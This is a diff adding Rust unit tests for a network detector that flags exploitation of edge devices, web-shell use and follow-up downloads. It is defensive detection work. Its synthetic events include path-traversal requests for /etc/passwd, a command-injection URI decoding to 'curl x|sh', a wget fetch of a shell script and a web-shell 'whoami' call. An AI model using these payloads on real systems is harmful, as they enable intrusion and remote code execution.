@@ -1,0 +1,150 @@
+use super::*;
+use crate::testing::{decode_all, ev, run};
+use crate::OrgProfile;
+
+fn det() -> EdgeDevice {
+    EdgeDevice {
+        cfg: Config::default(),
+        last_exploit: HashMap::default(),
+        known: HashMap::default(),
+        exploits: HashMap::default(),
+    }
+}
+
+fn edge_profile() -> OrgProfile {
+    OrgProfile::from_file(crate::ProfileFile {
+        edge_hosts: vec!["10.100.0.5".into()],
+        ..Default::default()
+    })
+    .unwrap()
+}
+
+#[test]
+fn exploit_download_and_new_destination() {
+    let mut v = vec![];
+    // A day of normal life: updates from a known destination.
+    for k in 0..24 {
+        v.push(ev::conn(
+            f64::from(k) * 3600.0,
+            "10.100.0.5",
+            "192.0.2.10",
+            443,
+            900,
+            4000,
+            Some("ssl"),
+        ));
+    }
+    let t = 100_000.0;
+    for (i, uri) in [
+        "/api/v1/totp/user-backup-code/../../system/x",
+        "/api/v1/license/keys-status/%3Bcurl%20x%7Csh",
+        "/dana-na/../../etc/passwd",
+    ]
+    .iter()
+    .enumerate()
+    {
+        v.push(ev::http(
+            t + i as f64,
+            "203.0.113.66",
+            "10.100.0.5",
+            "POST",
+            "10.100.0.5",
+            uri,
+            "python-requests/2.31.0",
+            900,
+        ));
+    }
+    v.push(ev::http(
+        t + 600.0,
+        "10.100.0.5",
+        "198.51.100.9",
+        "GET",
+        "198.51.100.9",
+        "/a.sh",
+        "Wget/1.21.3",
+        2400,
+    ));
+    v.push(ev::conn(t + 600.0, "10.100.0.5", "198.51.100.9", 80, 200, 2700, Some("http")));
+    let f = run(&mut det(), &v, &edge_profile());
+    let exploit = f.iter().find(|p| p.draft.discriminator == "exploit").expect("exploit");
+    assert_eq!(exploit.draft.score, 75.0, "confirmed by the download: {}", exploit.draft.summary);
+    let by = exploit.draft.evidence["confirmed_by"].as_str().unwrap();
+    assert!(by.contains("download") || by.contains("new destination"), "{by}");
+    assert_eq!(exploit.draft.entity.ip, Some("10.100.0.5".parse().unwrap()));
+    let dl = f.iter().find(|p| p.draft.discriminator == "download").expect("download");
+    assert_eq!(dl.draft.score, 75.0);
+    assert!(f.iter().any(|p| p.draft.discriminator.starts_with("new:") && p.draft.score == 50.0));
+}
+
+#[test]
+fn web_shell_driven() {
+    let v = vec![ev::http(
+        10.0,
+        "73.1.2.3",
+        "10.100.0.10",
+        "GET",
+        "www.example.com",
+        "/cms/uploads/images/thumb.aspx?c=whoami",
+        "Mozilla/5.0",
+        300,
+    )];
+    let f = run(&mut det(), &v, &OrgProfile::default());
+    assert_eq!(f.len(), 1);
+    assert_eq!(f[0].draft.score, 70.0);
+    assert_eq!(f[0].draft.attack, Some(vec![T_SHELL, T_EXPLOIT]));
+}
+
+#[test]
+fn ordinary_requests_and_learned_destinations_are_quiet() {
+    let mut v = vec![];
+    for k in 0..50 {
+        v.push(ev::http(
+            f64::from(k),
+            "203.0.113.7",
+            "10.100.0.5",
+            "GET",
+            "vpn.example.com",
+            &format!("/dana-na/auth/url_default/welcome.cgi?p={k}"),
+            "Mozilla/5.0",
+            5000,
+        ));
+        v.push(ev::conn(
+            f64::from(k) * 1000.0,
+            "10.100.0.5",
+            "192.0.2.10",
+            443,
+            900,
+            4000,
+            Some("ssl"),
+        ));
+    }
+    v.push(ev::conn(200_000.0, "10.100.0.5", "192.0.2.10", 443, 900, 4000, Some("ssl")));
+    let f = run(&mut det(), &v, &edge_profile());
+    assert!(f.is_empty(), "{:?}", f.iter().map(|p| &p.draft.summary).collect::<Vec<_>>());
+}
+
+#[test]
+fn shared_data_edge_traffic() {
+    // Slips test 9 and the RITA sensor: ordinary and scanned web servers.
+    let Some(data) = dwell_testkit::shared_data() else { return };
+    let evs = decode_all(&[&data.join("benign/rita_proxy_rolling")]);
+    let f = run(&mut det(), &evs, &OrgProfile::default());
+    assert!(
+        f.iter().all(|p| p.draft.score < 50.0),
+        "{:?}",
+        f.iter().map(|p| &p.draft.summary).collect::<Vec<_>>()
+    );
+    // The RITA sample's internet-facing sensor receives exploit-looking scanner requests
+    // (Mozi, LuCI command injection) all day and never acts on them: leads, below 50.
+    let evs = decode_all(&[&data.join("beacon/rita_missing_host_2024-04-21")]);
+    let profile = OrgProfile::from_file(crate::ProfileFile {
+        internal_networks: Some(vec!["64.225.56.201/32".into()]),
+        ..Default::default()
+    })
+    .unwrap();
+    let f = run(&mut det(), &evs, &profile);
+    assert!(f.iter().any(|p| p.draft.discriminator == "exploit"), "the attempts are seen");
+    for p in &f {
+        assert!(p.draft.score < 50.0, "{} {}", p.draft.score, p.draft.summary);
+    }
+}
